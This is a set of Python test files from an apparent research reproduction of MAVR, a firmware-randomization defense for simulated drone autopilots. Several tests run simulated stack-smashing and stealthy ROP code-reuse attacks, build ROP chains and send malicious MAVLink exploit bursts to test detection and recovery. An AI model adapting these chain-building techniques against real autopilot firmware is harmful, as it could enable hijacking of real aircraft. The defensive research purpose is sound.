    def assert_current_image(cpu, pc_bytes, insn):
        expected, _size = decode_at(second_image.code, pc_bytes)
        assert insn == expected, (
            f"stale decode at 0x{pc_bytes:05x}: executed {insn}, "
            f"image holds {expected}"
        )
        checked.append(pc_bytes)

    uav.cpu.trace_hooks.append(assert_current_image)
    uav.run_ticks(5)
    assert uav.status is AutopilotStatus.RUNNING
    assert len(checked) > 5_000
    # and the new layout genuinely moved code: some addresses now hold
    # different instructions than the first image did
    moved = sum(
        1 for pc in set(checked)
        if decode_at(first_image.code, pc)[0] != decode_at(second_image.code, pc)[0]
    )
    assert moved > 0


# -- block-engine fast path (no hooks attached, superblocks actually fuse) --


def _architectural_state(cpu):
    return {
        "pc": cpu.pc,
        "sp": cpu.data.sp,
        "sreg": cpu.sreg.byte,
        "cycles": cpu.cycles,
        "retired": cpu.instructions_retired,
        "regs": bytes(cpu.data.read_reg(r) for r in range(32)),
    }


def test_v2_attack_identical_outcome_on_fused_fast_path(image):
    """The V2 stealthy attack, end to end, with *no* hooks attached: the
    block engine executes fused superblocks the whole way and must still
    produce an identical AttackOutcome and identical architectural state."""
    outcomes = {}
    states = {}
    entered = {}
    compiled_entered = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        outcomes[engine] = StealthyAttack(image).execute(uav)
        states[engine] = _architectural_state(uav.cpu)
        entered[engine] = getattr(uav.cpu.engine, "blocks_entered", 0)
        compiled_entered[engine] = getattr(uav.cpu.engine, "compiled_entered", 0)
    assert entered["blocks"] > 1_000  # the fused path genuinely ran
    assert compiled_entered["compiled"] > 1_000  # ...and so did the compiled one
    for engine in ENGINES[1:]:
        assert outcomes[engine] == outcomes[REFERENCE], engine
        assert states[engine] == states[REFERENCE], engine


def test_mavr_boot_identical_end_state_on_fused_fast_path(image):
    """Boot-time randomization + protected flight without any stream
    attached: cycle totals and registers at the run boundary must agree."""
    states = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        master = MasterProcessor(uav, rng=random.Random(2015))
        master.deploy(preprocess(image))
        master.boot(attack_detected=True)
        master.run(ticks=40)
        assert uav.status is AutopilotStatus.RUNNING
        states[engine] = _architectural_state(uav.cpu)
    for engine in ENGINES[1:]:
        assert states[engine] == states[REFERENCE], engine
