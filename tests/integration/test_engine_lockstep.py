"""Differential tests: predecoded engine vs reference interpreter on the
paper's real scenarios.

These are the acceptance gates of the execution-engine PR: the V2 stealthy
attack and a full MAVR re-randomization boot must produce bit-for-bit
identical PC/SP/SREG/cycle streams on both engines, trace hooks must fire
with identical ``(pc, insn)`` sequences, and after the master detects a
crash and re-randomizes, the next ``run()`` must execute the *new* image
(the stale-decode regression).
"""

import random

import pytest

from repro.attack import BasicAttack, StealthyAttack
from repro.avr import CpuStateStream, ExecutionTrace, diff_state_streams
from repro.avr.decoder import decode_at
from repro.core.master import MasterProcessor
from repro.core.preprocess import preprocess
from repro.firmware import build_testapp
from repro.uav import Autopilot, AutopilotStatus

ENGINES = ("interpreter", "predecoded")


@pytest.fixture(scope="module")
def image():
    return build_testapp()


def test_v2_stealthy_attack_lockstep(image):
    """The paper's core scenario retires identically on both engines."""
    streams = {}
    outcomes = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        streams[engine] = CpuStateStream().attach(uav.cpu)
        outcomes[engine] = StealthyAttack(image).execute(uav, values=b"\x40\x00\x00")
    for engine in ENGINES:
        assert outcomes[engine].succeeded and outcomes[engine].stealthy
    divergence = diff_state_streams(streams["interpreter"], streams["predecoded"])
    assert divergence is None, divergence
    assert len(streams["predecoded"].states) > 10_000  # a real workload ran


def test_mavr_rerandomization_boot_lockstep(image):
    """Boot-time randomization + protected flight, engine-independent."""
    streams = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        master = MasterProcessor(uav, rng=random.Random(2015))
        master.deploy(preprocess(image))
        master.boot(attack_detected=True)  # force a fresh permutation
        assert master.stats.randomizations == 1
        streams[engine] = CpuStateStream().attach(uav.cpu)
        master.run(ticks=40)
        assert uav.status is AutopilotStatus.RUNNING
    divergence = diff_state_streams(streams["interpreter"], streams["predecoded"])
    assert divergence is None, divergence
    assert len(streams["predecoded"].states) > 10_000


def test_trace_hook_parity_stealthy_scenario(image):
    """trace_hooks fire with identical (pc, insn) sequences in cached and
    uncached modes across the stealthy_attack_demo scenario."""
    traces = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        trace = ExecutionTrace()
        trace.attach(uav.cpu)
        StealthyAttack(image).execute(uav, values=b"\x40\x00\x00")
        traces[engine] = trace
    a, b = traces["interpreter"], traces["predecoded"]
    assert len(a.instructions) == len(b.instructions)
    assert a.instructions == b.instructions
    assert a.io_writes == b.io_writes


def test_no_stale_decodes_after_crash_rerandomization(image):
    """After the master detects a crash and re-randomizes, every retired
    instruction must decode from the *new* image's bytes."""
    uav = Autopilot(image, engine="predecoded")
    master = MasterProcessor(uav, rng=random.Random(7))
    master.deploy(preprocess(image))
    master.boot(attack_detected=True)
    first_image = master.current_image
    uav.run_ticks(5)  # fill the decode cache with first-image decodes
    generation_before = uav.cpu.flash.generation

    # V1 smashes the stack and the board walks into garbage.
    BasicAttack(image).execute(uav, values=b"\x11\x22\x33")
    assert uav.status is AutopilotStatus.CRASHED
    assert master.watch()  # detected -> reset + re-randomize
    second_image = master.current_image
    assert second_image.code != first_image.code
    assert uav.cpu.flash.generation > generation_before

    # Every instruction retired from now on must match a fresh decode of
    # the new image at the same address — a stale cache entry from the
    # first image would differ at the first permuted block.
    checked = []

    def assert_current_image(cpu, pc_bytes, insn):
        expected, _size = decode_at(second_image.code, pc_bytes)
        assert insn == expected, (
            f"stale decode at 0x{pc_bytes:05x}: executed {insn}, "
            f"image holds {expected}"
        )
        checked.append(pc_bytes)

    uav.cpu.trace_hooks.append(assert_current_image)
    uav.run_ticks(5)
    assert uav.status is AutopilotStatus.RUNNING
    assert len(checked) > 5_000
    # and the new layout genuinely moved code: some addresses now hold
    # different instructions than the first image did
    moved = sum(
        1 for pc in set(checked)
        if decode_at(first_image.code, pc)[0] != decode_at(second_image.code, pc)[0]
    )
    assert moved > 0
