"""Paper-scale integration: the full ArduPlane-class image through the
attack and defense pipelines (everything else in the suite uses the small
test app for speed)."""

import random

import pytest

from repro.asm.linker import MAVR_OPTIONS
from repro.attack import GadgetFinder, StealthyAttack
from repro.core import randomize_image
from repro.firmware import ARDUPLANE, build_app
from repro.uav import Autopilot, AutopilotStatus


@pytest.fixture(scope="module")
def arduplane():
    return build_app(ARDUPLANE, MAVR_OPTIONS)


def test_arduplane_flies(arduplane):
    autopilot = Autopilot(arduplane)
    autopilot.run_ticks(10)
    assert autopilot.status is AutopilotStatus.RUNNING
    assert autopilot.read_variable("loop_counter") > 0


def test_arduplane_stealthy_attack(arduplane):
    autopilot = Autopilot(arduplane)
    outcome = StealthyAttack(arduplane).execute(autopilot, values=b"\x40\x00\x00")
    assert outcome.succeeded and outcome.stealthy
    assert autopilot.read_variable("gyro_offset") == 0x40


def test_arduplane_randomization_equivalence(arduplane):
    randomized, permutation = randomize_image(arduplane, random.Random(2015))
    assert permutation.identity_fraction < 0.01  # 917 blocks, ~none fixed

    def run(image, ticks=8):
        autopilot = Autopilot(image)
        transmitted = b""
        for _ in range(ticks):
            autopilot.tick()
            transmitted += autopilot.transmitted_bytes()
        return transmitted

    assert run(arduplane) == run(randomized)


def test_arduplane_gadget_scale(arduplane):
    count = GadgetFinder(arduplane).count()
    assert 800 <= count <= 1400  # paper: 953


def test_arduplane_image_invariants(arduplane):
    arduplane.validate()
    assert arduplane.function_count() == 917
    assert arduplane.size == ARDUPLANE.stock_code_size - (
        ARDUPLANE.stock_code_size - arduplane.size
    )
    assert arduplane.size < 256 * 1024
