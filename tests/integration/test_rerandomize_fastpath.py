"""Re-randomization fast path at paper scale.

Differential guarantees pinned here:

* the indexed patcher's output is byte-identical to the legacy streaming
  patcher for the same permutation, across seeds and all three paper
  applications;
* a differential reflash moves strictly fewer bytes over the ISP wire
  than the full transfer while leaving the flash byte-identical to a
  full reprogram;
* the watchdog recovery loop end-to-end: a dead autopilot is detected,
  re-randomized onto a *new* permutation, and the predecoded engine's
  decode cache is invalidated (flash.generation moved).
"""

import random

import pytest

from repro.asm.linker import MAVR_OPTIONS
from repro.binfmt import build_relocation_index
from repro.core import MavrSystem
from repro.core.patching import patch_image, patch_image_indexed
from repro.core.randomize import generate_permutation
from repro.firmware import ALL_APPS, build_app

SEEDS = (11, 22, 33)


@pytest.fixture(scope="module", params=[m.name for m in ALL_APPS])
def paper_app(request):
    manifest = next(m for m in ALL_APPS if m.name == request.param)
    return build_app(manifest, MAVR_OPTIONS)


def test_fastpath_matches_legacy_across_seeds(paper_app):
    """Acceptance: >= 3 seeds x 3 app manifests, byte-identical output."""
    index = build_relocation_index(paper_app)
    for seed in SEEDS:
        permutation = generate_permutation(paper_app, random.Random(seed))
        fast = patch_image_indexed(paper_app, permutation, index)
        legacy = patch_image(paper_app, permutation)
        assert fast == legacy, (paper_app.name, seed)


def test_differential_reflash_saves_wire_bytes(testapp):
    system = MavrSystem(testapp, seed=101)
    system.boot()  # first programming is necessarily a full transfer
    full_wire = system.master.isp.stats.last_bytes_on_wire
    assert full_wire == len(system.running_image.code)

    system.master.boot(attack_detected=True)  # re-randomization: page diff
    stats = system.master.isp.stats
    assert stats.differential_passes == 1
    assert stats.last_pages_skipped > 0
    # strictly fewer bytes on the wire than a full transfer
    assert stats.last_bytes_on_wire < full_wire
    # ... and the flash holds exactly what a full reprogram would have left
    flash = system.autopilot.cpu.flash
    image = system.running_image.code
    assert flash.dump(0, len(image)) == image
    assert flash.dump(len(image)) == b"\xff" * (flash.size - len(image))


def test_differential_reflash_is_faster(testapp):
    system = MavrSystem(testapp, seed=102)
    full_ms = system.boot()
    diff_ms = system.master.boot(attack_detected=True)
    assert 0 < diff_ms < full_ms


def test_watchdog_recovery_loop_end_to_end(testapp):
    """Crashed/silent autopilot -> watch() -> fresh permutation + cold caches."""
    system = MavrSystem(testapp, seed=103)
    system.boot()
    system.run(20)
    first_permutation = system.master.last_permutation
    first_code = system.running_image.code
    generation_before = system.autopilot.cpu.flash.generation

    # drive the core into garbage: the firmware crashes and stops feeding
    system.autopilot.cpu.pc = (system.running_image.size + 64) // 2
    system.autopilot.tick()
    assert system.autopilot.status.value == "crashed"

    assert system.master.watch()  # detected and recovered
    assert system.master.stats.attacks_detected == 1

    # a new layout was installed...
    second_permutation = system.master.last_permutation
    moves = lambda p: [(m.name, m.new_address) for m in p.moves]
    assert moves(second_permutation) != moves(first_permutation)
    assert system.running_image.code != first_code
    # ...the predecoded engine's decode cache is dead (generation moved
    # with the page writes), and the UAV is flying again
    assert system.autopilot.cpu.flash.generation > generation_before
    assert system.autopilot.status.value == "running"
    assert system.run(20) == 0
