"""Profiler consistency across all four engines, plus the V2 forensic
golden test.

The profiler's accuracy contract (docs/OBSERVABILITY.md):

* ``exact`` mode attributes *every* cycle the core spends — the sum of
  per-PC samples equals the CPU cycle counter bit-for-bit on every
  engine, and the per-function tables are identical across engines.
* ``block`` mode (superblock engines only) charges whole cached blocks;
  taken-branch extras, interrupt service overhead and budget-tail
  instructions are invisible at that granularity, so its totals agree
  with ``exact`` only to within a few percent — but the hot-function
  ranking must match.
* the gadget heatmap must flag a V2 code-reuse chain (forged returns
  into gadget bodies) on an otherwise clean run, and the forensic
  bundle built from that run must carry the gadget PCs.
"""

import pytest

from repro.avr import AvrProfiler, FlightRecorder
from repro.sim import Board, ScenarioSpec, run_scenario

ENGINES = ("interpreter", "predecoded", "blocks", "compiled")


def profile_flight(engine, mode, ticks=40):
    board = Board(ScenarioSpec(
        app="testapp", protected=False, engine=engine, profile=mode,
    ))
    board.boot()
    board.attach_observers()
    board.run(ticks)
    return board


# -- exact mode: cycle conservation on every engine -------------------------

def test_exact_totals_equal_cycle_counter_on_all_engines():
    tables = {}
    for engine in ENGINES:
        board = profile_flight(engine, "exact")
        cpu = board.autopilot.cpu
        profiler = board.profiler
        assert profiler.effective_mode == "exact"
        assert profiler.total_cycles == cpu.cycles_lifetime + cpu.cycles
        report = profiler.report()
        assert report["total_cycles"] == profiler.total_cycles
        tables[engine] = [
            (f["name"], f["hits"], f["self_cycles"])
            for f in report["functions"]
        ]
    # identical attribution, not merely identical totals
    for engine in ENGINES[1:]:
        assert tables[engine] == tables[ENGINES[0]], engine


# -- block mode: fast-path attribution within tolerance ---------------------

@pytest.mark.parametrize("engine", ("blocks", "compiled"))
def test_block_mode_agrees_with_exact_within_granularity(engine):
    exact = profile_flight("predecoded", "exact")
    block = profile_flight(engine, "block")
    assert block.profiler.effective_mode == "block"
    # the superblock fast path stayed fast: no trace hooks attached
    assert not block.autopilot.cpu.trace_hooks

    exact_total = exact.profiler.total_cycles
    block_total = block.profiler.total_cycles
    assert block_total == pytest.approx(exact_total, rel=0.10)

    top_exact = [f["name"] for f in exact.profiler.report()["functions"][:5]]
    top_block = [f["name"] for f in block.profiler.report()["functions"][:5]]
    assert set(top_exact) & set(top_block), (top_exact, top_block)
    assert top_exact[0] == top_block[0]


# -- gadget heatmap + forensic bundle: the V2 golden test -------------------

@pytest.fixture(scope="module")
def v2_result():
    return run_scenario(ScenarioSpec(
        app="testapp", protected=False, attack="v2",
        warmup_ticks=10, observe_ticks=30,
        profile="heatmap", flight_recorder=True, telemetry=True,
    ))


def test_v2_heatmap_flags_out_of_chain_pcs(v2_result):
    assert v2_result.stealthy  # the attack itself still works
    assert v2_result.profile_anomalies >= 1
    anomalies = v2_result.profile["anomalies"]
    kinds = {a["kind"] for a in anomalies}
    assert "bad_return" in kinds
    # the forged returns land in the gadget functions the chain reuses
    targets = {a["target_function"] for a in anomalies}
    assert {"rtos_context_restore", "param_block_write"} & targets


def test_v2_forensic_bundle_contains_gadget_evidence(v2_result):
    bundle = v2_result.forensics
    assert bundle is not None
    assert bundle["kind"] == "profile_anomaly"
    assert bundle["schema"] == 1
    assert len(bundle["registers"]) == 32
    assert bundle["ring"], "flight-recorder ring is empty"
    assert any(entry["current"] for entry in bundle["disassembly"])
    profile = bundle["profile"]
    assert profile["anomaly_count"] == v2_result.profile_anomalies
    gadget_pcs = {
        a["target_pc"] for a in profile["anomalies"]
        if a["target_function"] in ("rtos_context_restore", "param_block_write")
    }
    assert gadget_pcs, "no out-of-chain PC pointed into a gadget body"
    # the anomaly events rode the telemetry stream too
    names = [e.get("event") for e in v2_result.events]
    assert "attack.profile_anomaly" in names


def test_clean_flight_has_no_anomalies_on_any_engine():
    for engine in ENGINES:
        board = profile_flight(engine, "heatmap", ticks=30)
        assert board.profiler.anomaly_count == 0, engine


def test_protected_detection_freezes_bundle_before_recovery(testapp):
    result = run_scenario(ScenarioSpec(
        app="testapp", protected=True, attack="v2",
        warmup_ticks=20, observe_ticks=100, watch_every=5,
        profile="heatmap", flight_recorder=True, telemetry=True,
    ))
    assert result.detected
    bundle = result.forensics
    assert bundle is not None
    # frozen by the master at detection time, not rebuilt post-recovery
    assert bundle["kind"] == "attack_detected"


def test_flight_recorder_ring_is_bounded():
    board = Board(ScenarioSpec(app="testapp", protected=False))
    board.boot()
    recorder = FlightRecorder(depth=64).attach(board.autopilot.cpu)
    board.run(20)
    assert len(recorder.states) == 64
    bundle = recorder.bundle("bounded-ring check")
    assert len(bundle["ring"]) == 64
