"""End-to-end observability: the full causal chain of a watchdog recovery.

The scenario mirrors the paper's detection story: an attack leaves the
application processor running but silent (the watchdog feed line stops
toggling), the master's timing analysis starves, and the recovery —
re-randomize, differentially reflash, reboot — plays out as one ordered
stream of events and one nested span tree.

Boards are stood up through the :mod:`repro.sim` scenario layer; the
``silence`` fault is the spec-level form of the disabled feed line.
"""

import json

import pytest

from repro.sim import Board, ScenarioSpec
from repro.telemetry import Telemetry

SILENCE_SPEC = ScenarioSpec(
    app="testapp",
    seed=103,
    fault="silence",
    telemetry=True,
    warmup_ticks=20,
    # window is 400k cycles at ~7k cycles/tick: starve within ~60 ticks,
    # then let one watch() pass fire the recovery
    observe_ticks=120,
    watch_every=30,
)


@pytest.fixture(scope="module")
def recovered(testapp):
    """One starved-and-recovered protected system plus its telemetry."""
    tel = Telemetry(enabled=True)
    board = Board(SILENCE_SPEC, telemetry=tel)
    board.boot()
    board.run(SILENCE_SPEC.warmup_ticks)
    board.inject_fault()
    detections = board.run(
        SILENCE_SPEC.observe_ticks, SILENCE_SPEC.watch_every
    )
    assert detections >= 1
    # a little post-recovery flight so the rebooted core has retired work
    board.run(10, watch_every=1000)
    return board.system, tel


def test_causal_event_order(recovered):
    """watchdog.starved -> attack.detected -> mavr.rerandomize span
    -> flash.page_reflashed, in that order, as one subsequence."""
    _system, tel = recovered
    sequence = []
    for event in tel.events.events():
        if event["event"] == "span.start" and event.get("span") == "mavr.rerandomize":
            sequence.append("mavr.rerandomize")
        elif event["event"] in (
            "watchdog.starved", "attack.detected", "flash.page_reflashed",
        ):
            sequence.append(event["event"])
    expected = [
        "watchdog.starved", "attack.detected",
        "mavr.rerandomize", "flash.page_reflashed",
    ]
    iterator = iter(sequence)
    assert all(step in iterator for step in expected), (
        f"causal chain {expected} not a subsequence of {sequence[:12]}"
    )


def test_starvation_event_fields(recovered):
    _system, tel = recovered
    starved = tel.events.events("watchdog.starved")[0]
    assert starved["now_cycles"] - starved["last_feed_cycle"] > starved[
        "window_cycles"
    ]
    detected = tel.events.events("attack.detected")[0]
    assert detected["cause"] == "watchdog_silence"
    assert detected["seq"] > starved["seq"]


def test_rerandomize_span_is_a_causal_tree(recovered):
    """The recovery is one nested tree: rerandomize > boot > randomize/reflash."""
    _system, tel = recovered
    rerandomize = tel.tracer.finished("mavr.rerandomize")[0]
    boots = tel.tracer.children_of(rerandomize)
    assert [s.name for s in boots] == ["mavr.boot"]
    child_names = {s.name for s in tel.tracer.children_of(boots[0])}
    assert {"mavr.randomize", "mavr.reflash"} <= child_names
    reflash = [s for s in tel.tracer.children_of(boots[0])
               if s.name == "mavr.reflash"][0]
    program = tel.tracer.children_of(reflash)
    assert [s.name for s in program] == ["isp.program"]
    assert program[0].attrs["differential"] is True
    assert program[0].duration_sim_ms > 0  # sim-time cost of the reflash


def test_snapshot_covers_every_layer(recovered):
    """CPU, engine, ISP and master metrics all land in one snapshot."""
    system, tel = recovered
    snapshot = system.snapshot()
    values = {m["name"]: m["value"] for m in snapshot["metrics"]
              if m["kind"] != "histogram"}
    assert values["cpu.instructions_retired"] > 0
    assert values["cpu.instructions_lifetime"] > values[
        "cpu.instructions_retired"
    ]  # lifetime survived the recovery reset
    assert values["engine.decode_misses"] > 0
    assert values["engine.decode_cache_hits"] > values["engine.decode_misses"]
    assert values["isp.pages_written"] > 0
    assert values["isp.bytes_on_wire"] > 0
    assert values["master.attacks_detected"] >= 1
    assert values["master.boots"] >= 2
    json.dumps(snapshot)  # end-to-end serializable


def test_stats_views_match_registry(recovered):
    """The legacy stats objects and the registry are the same numbers."""
    system, tel = recovered
    assert tel.registry.value(
        "master.boots", component="master"
    ) == system.master.stats.boots
    assert tel.registry.value(
        "isp.pages_written", component="isp"
    ) == system.master.isp.stats.pages_written


def test_jsonl_log_replays_the_chain(testapp, tmp_path):
    """The JSONL sink alone is enough to reconstruct the recovery."""
    path = tmp_path / "events.jsonl"
    tel = Telemetry(enabled=True, jsonl_path=path)
    spec = ScenarioSpec(
        app="testapp", seed=7, fault="silence", telemetry=True,
        warmup_ticks=20, observe_ticks=120, watch_every=30,
    )
    board = Board(spec, telemetry=tel)
    board.boot()
    board.run(spec.warmup_ticks)
    board.inject_fault()
    board.run(spec.observe_ticks, spec.watch_every)
    tel.close()
    records = [json.loads(line) for line in path.read_text().splitlines()]
    names = [r["event"] for r in records]
    assert "watchdog.starved" in names
    assert "flash.page_reflashed" in names
    assert [r["seq"] for r in records] == sorted(r["seq"] for r in records)
