"""Integration scenarios spanning the whole system.

These tests exercise multi-module flows exactly as a user of the library
would: source text to flying firmware, the complete attack-vs-defense
experiment, the oracle falsification, the guessing campaign, and the
software-only ablation.  Every protected board is stood up through the
:mod:`repro.sim` scenario layer.
"""

import random

import pytest

from repro.analysis import guessing_campaign, oracle_attack
from repro.asm import MAVR_OPTIONS, link, parse_program
from repro.attack import StealthyAttack, Write3, variable_address
from repro.core import SoftwareOnlyDefense, randomize_image
from repro.mavlink.messages import PARAM_SET
from repro.sim import Board, ScenarioSpec, run_scenario
from repro.uav import Autopilot, AutopilotStatus, GroundStation, MaliciousGroundStation


def test_source_to_execution_pipeline():
    """Assembly text -> linked image -> simulated execution -> observable."""
    source = """
.entry main
.text
.func compute
    ldi r24, 21
    add r24, r24
    sts result, r24
.endfunc
.func main inline
    call compute
    break
.endfunc
.data
result: .space 1
"""
    image = link(parse_program(source), MAVR_OPTIONS)
    autopilot = Autopilot(image)
    autopilot.tick()
    assert autopilot.read_variable("result") == 42


def test_hex_roundtrip_preserves_executability(testapp):
    """Image -> preprocessed HEX -> image -> runs identically."""
    from repro.binfmt import FirmwareImage

    restored = FirmwareImage.from_preprocessed_hex(testapp.to_preprocessed_hex())

    def run(image, ticks=8):
        autopilot = Autopilot(image)
        transmitted = b""
        for _ in range(ticks):
            autopilot.tick()
            transmitted += autopilot.transmitted_bytes()
        return transmitted

    assert run(testapp) == run(restored)


def test_flash_blob_roundtrip_randomizable(testapp):
    """Image -> compact flash container -> image -> randomize -> runs."""
    from repro.binfmt import FirmwareImage

    restored = FirmwareImage.from_flash_blob(testapp.to_flash_blob())
    assert restored.code == testapp.code
    assert restored.function_count() == testapp.function_count()
    randomized, _permutation = randomize_image(restored, random.Random(3))
    autopilot = Autopilot(randomized)
    autopilot.run_ticks(8)
    assert autopilot.status is AutopilotStatus.RUNNING


def test_the_paper_experiment_end_to_end(testapp):
    """§VII-A in one test: all three attacks beat the unprotected board;
    the replayed stealthy attack loses to MAVR and is absorbed."""
    # unprotected
    def unprotected(variant):
        return run_scenario(ScenarioSpec(
            app="testapp", protected=False, attack=variant, observe_ticks=30,
        ))

    v1, v2, v3 = unprotected("v1"), unprotected("v2"), unprotected("v3")
    assert v1.succeeded and not v1.stealthy
    assert v2.succeeded and v2.stealthy
    assert v3.succeeded and v3.stealthy

    # protected: the same stealthy payload, aimed at the original layout,
    # lands wrong on the randomized board and is detected and absorbed
    protected = run_scenario(ScenarioSpec(
        app="testapp", seed=99, attack="v2",
        warmup_ticks=10, observe_ticks=150, watch_every=5,
    ))
    assert not protected.effect
    assert protected.detected
    assert protected.attacks_detected >= 1
    assert protected.still_flying
    assert protected.outcome == "deflected"


def test_oracle_attack_falsification(testapp):
    """With the layout known, the randomized firmware is still exploitable:
    MAVR's security is layout secrecy, not breakage."""
    assert oracle_attack(testapp, seed=5)
    assert oracle_attack(testapp, seed=17)


def test_guessing_campaign_zero_effect(testapp):
    result = guessing_campaign(testapp, attempts=3, seed=41)
    assert result.attempts == 3
    assert result.effects == 0
    assert result.detections == result.attempts  # every failure noticed
    assert result.still_flying
    assert result.randomizations_consumed >= result.detections + 1


def test_software_only_defense_weaknesses(testapp):
    """§VIII-A: flash-time-only randomization crashes without recovery and
    never rotates its permutation."""
    defense = SoftwareOnlyDefense(testapp, seed=8)
    layout_before = defense.image.code
    defense.run(10)
    assert defense.recovered_in_flight

    # a failed attack: replay the unprotected-layout exploit
    attack = StealthyAttack(testapp)
    station = MaliciousGroundStation()
    target = variable_address(testapp, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    defense.autopilot.receive_bytes(burst)
    status = defense.run(200)
    # whether it crashed hard or silently rebooted, nothing re-randomized:
    defense.power_cycle()
    assert defense.image.code == layout_before  # same permutation forever
    assert defense.stats.power_cycles_needed == 1


def test_campaign_under_lazy_policy(testapp):
    """Even with randomize-every-10-boots, a *detected* attack forces an
    immediate re-randomization (policy override)."""
    board = Board(ScenarioSpec(
        app="testapp", seed=12, randomize_every_boots=10,
    ))
    board.boot()
    layout = board.system.running_image.code
    attack = StealthyAttack(testapp)
    station = MaliciousGroundStation()
    target = variable_address(testapp, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    board.run(10)
    board.autopilot.receive_bytes(burst)
    board.run(150, watch_every=5)
    assert board.report().attacks_detected >= 1
    # rotated despite the lazy policy
    assert board.system.running_image.code != layout


def test_ground_station_cannot_distinguish_v2_from_noise(testapp):
    """The stealth claim from the operator's viewpoint: the health metrics
    of an attacked flight match a clean flight."""
    def fly(attacked):
        autopilot = Autopilot(testapp)
        gcs = GroundStation()
        for tick in range(60):
            if attacked and tick == 20:
                StealthyAttack(testapp).execute(
                    autopilot, values=b"\x10\x00\x00", observe_ticks=0,
                )
            autopilot.tick()
            gcs.ingest(autopilot.transmitted_bytes())
        return gcs.health

    clean = fly(False)
    hit = fly(True)
    assert not hit.consecutive_silent_polls
    assert hit.malformed_bytes == clean.malformed_bytes == 0
