"""Property test: link -> randomize -> behavioural equivalence holds for
*generated* programs, not just the curated firmware.

For random seeds, a synthetic program (random task functions, random
unreachable fillers with switch trampolines and save chains, a
function-pointer dispatch table) is linked, executed to completion, then
randomized and executed again.  The UART byte stream and final SRAM state
must be identical — the defense's core correctness obligation.
"""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.asm.ir import AsmInsn, DataDef, DataKind, FunctionDef, Program, SymbolRef
from repro.asm.linker import LinkOptions, link
from repro.avr import AvrCpu, Mnemonic, Usart
from repro.core.patching import randomize_image, verify_patched
from repro.firmware.codegen import FunctionFactory

M = Mnemonic

MAVR_NO_NAME = LinkOptions(relax=False, call_prologues=False, align_functions=2,
                           name="generated")


def generate_program(seed: int) -> Program:
    factory = FunctionFactory(seed)
    rng = random.Random(seed ^ 0x5EED)
    program = Program()

    task_names = []
    for index in range(rng.randint(3, 7)):
        name = f"task_{index}"
        program.add_function(factory.task_function(name, rng.randint(10, 60)))
        task_names.append(name)

    # unreachable fillers shape the layout (and the gadget population)
    previous = task_names[-1]
    for index in range(rng.randint(3, 8)):
        name = f"filler_{index}"
        program.add_function(
            factory.filler(
                name,
                rng.randint(12, 80),
                callees=[previous] if rng.random() < 0.5 else (),
                save_count=rng.choice((0, 0, 2, 6)),
                with_switch=rng.random() < 0.4,
                with_early_ret=rng.random() < 0.3,
            )
        )
        previous = name

    # main: call every task, emit its scratch_b result on the UART, halt
    items = []
    for name in task_names:
        items.append(AsmInsn(M.CALL, k=SymbolRef(name)))
        items.append(AsmInsn(M.LDS, rd=24, k=SymbolRef("scratch_b")))
        items.append(AsmInsn(M.STS, k=0xC6, rr=24))  # UDR0
    items.append(AsmInsn(M.BREAK))
    program.add_function(FunctionDef("main", items, force_inline_epilogue=True))

    program.add_data(DataDef("scratch_a", DataKind.SPACE, 2, segment="sram"))
    program.add_data(DataDef("scratch_b", DataKind.SPACE, 2, segment="sram"))
    program.add_data(
        DataDef("dispatch", DataKind.FUNCPTR_TABLE, task_names, segment="flash")
    )
    program.entry = "main"
    return program


def run_to_halt(image, max_instructions=300_000):
    cpu = AvrCpu()
    usart = Usart(cpu)
    cpu.load_program(image.code)
    cpu.reset()
    cpu.run(max_instructions)
    assert cpu.halted, "generated program did not terminate"
    sram = cpu.data.read_block(0x200, 64)
    return bytes(usart.tx_log), sram


@settings(max_examples=12, deadline=None)
@given(st.integers(0, 2**32 - 1))
def test_generated_program_randomization_equivalence(seed):
    program = generate_program(seed)
    image = link(program, MAVR_NO_NAME)
    original_tx, original_sram = run_to_halt(image)

    randomized, permutation = randomize_image(image, random.Random(seed ^ 0xABCD))
    verify_patched(image, randomized, permutation)
    randomized_tx, randomized_sram = run_to_halt(randomized)

    assert original_tx == randomized_tx
    assert original_sram == randomized_sram


@settings(max_examples=6, deadline=None)
@given(st.integers(0, 2**32 - 1))
def test_generated_program_double_randomization(seed):
    """Randomizing twice (the re-randomize-on-detection path) stays sound."""
    program = generate_program(seed)
    image = link(program, MAVR_NO_NAME)
    once, _p1 = randomize_image(image, random.Random(seed + 1))
    twice, _p2 = randomize_image(once, random.Random(seed + 2))
    assert run_to_halt(image) == run_to_halt(twice)
