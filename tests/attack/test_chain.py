"""ROP chain builder: byte layout, register assignment, framing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.attack import ChainBuilder, FILL_BYTE, Write3, ret_address_bytes
from repro.errors import AttackError


def test_ret_address_bytes_big_endian_in_memory():
    assert ret_address_bytes(0x0002) == b"\x00\x00\x02"
    assert ret_address_bytes(0x1B284 // 2) == bytes([0x00, 0xD9, 0x42])


@given(st.integers(0, (1 << 22) - 1))
def test_ret_address_bytes_roundtrip(word):
    high, mid, low = ret_address_bytes(word)
    assert (high << 16) | (mid << 8) | low == word


def test_ret_address_bytes_range():
    with pytest.raises(AttackError):
        ret_address_bytes(1 << 22)
    with pytest.raises(AttackError):
        ret_address_bytes(-1)


@pytest.fixture(scope="module")
def builder(request):
    testapp = request.getfixturevalue("testapp")
    return ChainBuilder(testapp)


def test_pop_block_layout(builder):
    block = builder.pop_block({29: 0xAA, 28: 0xBB, 5: 0x11})
    assert len(block) == builder.wm.pop_bytes
    assert block[0] == 0xAA  # r29 popped first
    assert block[1] == 0xBB
    assert block[builder.wm.pop_index(5)] == 0x11
    assert block[2] == FILL_BYTE  # unset register


def test_regs_for_write_sets_y_and_values(builder):
    regs = builder._regs_for_write(Write3(0x0300, b"\x01\x02\x03"))
    # Y = target - first displacement (1)
    assert regs[28] == 0xFF and regs[29] == 0x02
    assert regs[5] == 0x01 and regs[6] == 0x02 and regs[7] == 0x03


def test_regs_for_write_validates_width(builder):
    with pytest.raises(AttackError):
        builder._regs_for_write(Write3(0x0300, b"\x01"))


